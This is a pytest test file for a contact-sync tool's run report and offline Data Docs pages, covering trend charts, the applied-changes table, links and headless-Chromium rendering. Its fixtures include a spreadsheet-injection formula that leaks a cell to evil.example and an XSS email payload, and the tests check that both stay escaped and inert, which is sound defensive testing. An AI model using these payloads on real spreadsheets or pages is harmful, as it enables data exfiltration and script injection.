"""The report for a data lead (issue 16, item 6; item 7's Data Docs part): trends over runs, the applied-changes
table with names and emails, readable payloads, list names, the real request budget, links to the run's
files; Data Docs kept per run, offline, with hostile sample values inert, looked at in headless Chromium.

Runs are made by the real planning pipeline against both sandboxes (tests/support/worlds.py), as in
tests/e2e/test_report.py, whose helpers (the world with a hostile TinyEmail name, `simulate_apply`) are reused.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from contact_recon.model.cells import unguard
from contact_recon.report.applied import APPLIED_COLUMNS, applied_changes, run_context
from contact_recon.report.build import _table_rows, build_summary, run_ops, write_run_files
from contact_recon.sandbox.fixture import validate_fixture
from tests.e2e.test_report import Tags, loose_policy, requests, simulate_apply
from tests.support.browser import browser_page
from tests.support.servers import Sandboxes
from tests.support.worlds import World, awkward_fixture, planning_world

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3,"Click")'
HOSTILE_EMAIL = '<img src=x onerror="window.__pwned=3">@example.com'
# an asset fetched from the network: a source, a stylesheet or icon link, a CSS url() (plain <a> links are not)
REMOTE_ASSET = re.compile(r"""\bsrc\s*=\s*["']?https?://|<link\b[^>]*\bhref\s*=\s*["']?https?://"""
                          r"""|url\(\s*['"]?https?://|@import""", re.IGNORECASE)


@pytest.fixture
def world(sandboxes: Sandboxes, tmp_path: Path) -> Iterator[World]:
    """A GHL contact named like a formula, a TinyEmail customer whose email is markup (it fails email_syntax)."""
    fixture, edited = awkward_fixture()
    contacts = next(iter(fixture["ghl"]["locations"].values()))["contacts"]
    next(c for c in contacts if c["id"] == edited["blank_company"][0])["firstName"] = FORMULA
    customer = fixture["tinyemail"]["customers"][-1]
    for lst in fixture["tinyemail"]["lists"]:
        lst["members"] = [HOSTILE_EMAIL if m == customer["email"] else m for m in lst["members"]]
    customer["email"] = HOSTILE_EMAIL
    yield from planning_world(sandboxes, tmp_path, validate_fixture(fixture), edited)


def applied(seq: int, op: dict[str, Any]) -> tuple[str, str | None, str | None]:
    """Every op applied but the quarantined ones (this file looks at what was applied, not at failures)."""
    return ("quarantined", None, None) if op["status"] == "quarantined" else ("done", None, None)


def report_of(world: World, run_id: str, given: dict[str, Any] | None = None) -> str:
    summary = build_summary(world.store, world.settings.data_dir, run_id, dry_run=False,
                            requests=requests() if given is None else given, guards=[])
    return write_run_files(world.store, world.settings.data_dir, run_id, summary).report.read_text(encoding="utf-8")


def list_ids(world: World) -> dict[str, str]:
    """TinyEmail list id -> a name with markup in it (names come from TinyEmail users too)."""
    return {lst["id"]: f"List <i>{i}</i>" for i, lst in enumerate(world.fixture["tinyemail"]["lists"])}


# ------------------------------------------------------------------------------------ applied changes


def test_applied_changes_name_people_group_by_field_and_read_payloads(world: World,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    names = list_ids(world)
    monkeypatch.setattr(world.store, "list_names", lambda: names, raising=False)  # the lead's Store.list_names
    result = world.plan(policy=loose_policy(world))
    journal = simulate_apply(world, result, "completed", applied)
    html = report_of(world, result.run_id)
    changes = applied_changes(run_ops(world.store, world.settings.data_dir, result.run_id),
                              run_context(world.settings.data_dir, result.run_id), names)

    done = journal.filter(pl.col("status") == "done")
    assert changes.height == done.height > 0 and changes.columns == list(APPLIED_COLUMNS)
    assert f"Applied changes (grouped by field and reason) <small>({done.height:,})</small>" in html
    # grouped: one heading row per (field, reason), rows sorted so each group is together
    shown = changes.head(100)  # the table's cap
    groups = shown.select("field", "reason").unique(maintain_order=True)
    assert groups.height == shown.select("field", "reason").n_unique() > 1
    blocks = shown.select(pl.struct("field", "reason").rle_id().alias("block"))["block"].n_unique()
    assert blocks == groups.height  # each group in one block of rows
    section = html[html.index('<table id="applied">'):html.index("</table>", html.index('<table id="applied">'))]
    assert section.count('<tr class="group">') == groups.height
    # people by name and email, with a link to the GHL contact
    named = changes.filter(pl.col("email").is_not_null() & pl.col("name").is_not_null())
    assert named.height > 0
    person = named.row(0, named=True)
    assert f">{person['email']}<" in section
    linked = changes.filter(pl.col("ghl_url").is_not_null())
    assert linked.height > 0 and f'href="{linked["ghl_url"][0]}"' in section
    # payloads as fields: a create's JSON becomes "field: value · ..."
    creates = changes.filter(pl.col("kind") == "create")
    assert creates.height > 0
    assert all(not v.startswith("{") and "email: " in v for v in creates["new"].to_list())
    # lists by name, never their ids (escaped: list names are user text too)
    mentions_list = pl.any_horizontal(pl.col(c).fill_null("").str.contains_any(list(names))
                                      for c in ("expected", "new"))
    assert done.filter(mentions_list).height > 0  # `list:<id>` tags mirrored into GHL, list memberships
    assert not any(list_id in section for list_id in names)
    assert "List &lt;i&gt;" in section and "<i>" not in section
    # the formula-like first name is in the table artifact's rows guarded, and reads back unharmed
    rows = _table_rows(changes, list(APPLIED_COLUMNS))
    guarded_names = [r["name"] for r in rows if r["name"] and FORMULA.split("(")[0] in r["name"]]
    assert guarded_names and all(n.startswith("'") and unguard(n).startswith(FORMULA) for n in guarded_names)


def test_links_to_the_runs_files_and_the_budget_chart_shows_the_daily_allowance(world: World) -> None:
    result = world.plan(policy=loose_policy(world))
    html = report_of(world, result.run_id, given={})  # a dry run: no apply, its snapshot's requests only

    for name in ("conflicts.csv", "plan.parquet"):
        href = html.split(f'id="file-{name.split(".")[0]}" href="')[1].split('"')[0]
        assert href == name and (world.settings.data_dir / "runs" / result.run_id / href).is_file()
    identity = world.settings.data_dir / "runs" / result.run_id / "identity.csv"
    assert identity.is_file() and 'id="file-identity" href="identity.csv"' in html  # the run's identity review
    assert 'id="flow-run"' not in html and "Prefect flow run (not run in Prefect" in html
    requests_chart = html[html.index('data-chart="requests"'):]
    requests_chart = requests_chart[:requests_chart.index("</svg>")]
    assert "no budget given" not in html and " left today" in requests_chart and "stroke-dasharray" in requests_chart
    assert "(no daily allowance)" in requests_chart  # TinyEmail: a rate per minute, no daily allowance
    # without an identity.csv beside it the report says so instead of linking nothing
    identity.unlink()
    assert "identity.csv (not written)" in report_of(world, result.run_id, given={})


# ----------------------------------------------------------------------------------------- trends


def test_trend_charts_over_several_runs_in_headless_chromium(world: World, tmp_path: Path) -> None:
    policy = loose_policy(world)
    first = world.plan(policy=policy)
    simulate_apply(world, first, "completed", applied)  # a first fill: many ops
    for _ in range(3):
        world.plan(policy=policy)
    last = world.plan(policy=policy)
    html = report_of(world, last.run_id)
    path = world.settings.data_dir / "runs" / last.run_id / "report.html"

    drift = html[html.index('data-chart="drift"'):html.index("</svg>", html.index('data-chart="drift"'))]
    assert "log scale" in drift and ">1<" in drift and ">10<" in drift  # log gridlines
    trends = html[html.index('data-chart="trends"'):html.index("</svg>", html.index('data-chart="trends"'))]
    for panel in ("ops: update", "conflicts open", "quarantined ops", "check failures (records)"):
        assert f">{panel}<" in trends, panel
    assert trends.count(first.run_id) >= 1 and trends.count(last.run_id) >= 1

    with browser_page() as watched:
        page = watched.page
        page.goto(path.as_uri(), wait_until="load")
        box = page.locator('svg[data-chart="trends"]').bounding_box()
        bars = page.locator('svg[data-chart="trends"] rect').evaluate_all(
            "els => els.filter(e => { const b = e.getBoundingClientRect(); return b.width > 0 && "
            "b.height > 0 && e.getAttribute('fill') !== 'none'; }).length")
        drift_heights = page.locator('svg[data-chart="drift"] rect').evaluate_all(
            "els => els.filter(e => e.getAttribute('fill') !== 'none')"
            ".map(e => e.getBoundingClientRect().height)")
        page.screenshot(path=str(tmp_path / "trends.png"), full_page=True)
    problems, fetched = watched.problems, watched.fetched

    assert problems == [] and fetched == [path.as_uri()]
    assert box is not None and box["width"] > 300 and box["height"] > 100, box
    assert bars >= 5 * 4, bars  # every run in several panels
    # log scale: the nights after the first fill stay visible (on a linear scale they would be a sliver)
    assert drift_heights and min(drift_heights) >= 8, drift_heights


# -------------------------------------------------------------------------------------- Data Docs


def docs_pages(index: Path) -> list[Path]:
    return sorted(index.parent.rglob("*.html"))


def test_data_docs_are_kept_per_run_offline_with_sample_values_inert(world: World) -> None:
    policy = loose_policy(world)
    older = world.plan(policy=policy, docs=True)
    newer = world.plan(policy=policy, docs=True)
    data_dir = world.settings.data_dir

    indexes = {}
    for run in (older, newer):
        index = data_dir / "runs" / run.run_id / "data_docs" / "index.html"
        assert run.checks.docs_index == index and index.is_file()
        indexes[run.run_id] = index
        html = report_of(world, run.run_id)
        href = html.split('id="data-docs" href="')[1].split('"')[0]
        assert (data_dir / "runs" / run.run_id / href).resolve() == index.resolve()
    # each run's docs show that run's validations only
    for run_id, index in indexes.items():
        validations = [p for p in docs_pages(index) if "validations" in p.parts]
        assert validations and all(run_id in p.parts for p in validations), validations
        other = next(r for r in indexes if r != run_id)
        assert other not in index.read_text(encoding="utf-8")
    # offline: no asset from the network, no script at all
    for page in docs_pages(indexes[older.run_id]):
        text = page.read_text(encoding="utf-8")
        assert not REMOTE_ASSET.search(text), (page, REMOTE_ASSET.search(text))
        tags = Tags()
        tags.feed(text)
        assert "script" not in tags.names, page
    # small: only the assets the pages use are kept (GX copies 4 MB of fonts and GIFs into a site)
    site = [p for p in indexes[older.run_id].parent.rglob("*") if p.is_file()]
    assert sum(p.stat().st_size for p in site) < 1_000_000 and not [p for p in site if p.suffix in (".otf", ".gif")]
    # the markup email failed email_syntax: its sample value is text in the page and unharmed in the results
    result = older.checks.result("te_customers.email_syntax")
    assert HOSTILE_EMAIL in result.sample_values
    pages = [p.read_text(encoding="utf-8") for p in docs_pages(indexes[older.run_id]) if "te_customers" in p.name]
    assert any("&lt;img src=x onerror=&quot;window.__pwned=3&quot;&gt;" in t or
               "&lt;img src=x onerror=\"window.__pwned=3\"&gt;" in t for t in pages)
    assert not any(HOSTILE_EMAIL in t for t in pages)
    stored = world.store.load_check_results(older.run_id).filter(
        (pl.col("suite") == "te_customers") & (pl.col("expectation") == "email_syntax"))
    assert HOSTILE_EMAIL in json.loads(stored["sample_values"][0])


def test_data_docs_render_offline_in_headless_chromium(world: World, tmp_path: Path) -> None:
    run = world.plan(policy=loose_policy(world), docs=True)
    index = run.checks.docs_index
    assert index is not None
    page_path = next(p for p in docs_pages(index) if "validations" in p.parts and "te_customers" in p.name)
    seen: dict[str, Any] = {}
    with browser_page() as watched:
        for name, path in (("index", index), ("validation", page_path)):
            watched.page.goto(path.as_uri(), wait_until="load")
            seen[name] = {"rows": watched.page.locator("table tr").count(),
                          "pwned": watched.page.evaluate("window.__pwned"), "text": watched.page.inner_text("body")}
    problems, fetched = watched.problems, watched.fetched

    assert problems == [] and all(url.startswith("file://") for url in fetched), fetched
    assert seen["index"]["rows"] >= 5 and "te_customers" in seen["index"]["text"]  # the index table, no JS
    assert seen["validation"]["pwned"] is None and seen["index"]["pwned"] is None
    assert HOSTILE_EMAIL in seen["validation"]["text"]  # shown as text
